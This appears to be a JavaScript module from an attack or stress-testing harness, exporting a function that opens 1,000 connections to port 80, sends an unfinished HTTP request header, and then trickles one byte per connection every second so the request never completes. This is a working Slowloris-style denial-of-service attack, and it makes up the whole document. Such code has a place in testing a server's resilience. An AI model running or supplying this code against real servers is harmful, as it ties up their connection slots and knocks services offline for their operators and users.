export const summary = '1,000 requests of HTTP whose headers come an octet at a time and never end'

export const attack = async (peers, { goesOn }) => {
  const all = await peers.connectMany(1000, 80)
  for (const c of all) c.write(Buffer.from('GET / HTTP/1.1\r\nX: '))
  while (await goesOn(1000)) for (const c of all) c.write(Buffer.from('x'))
}
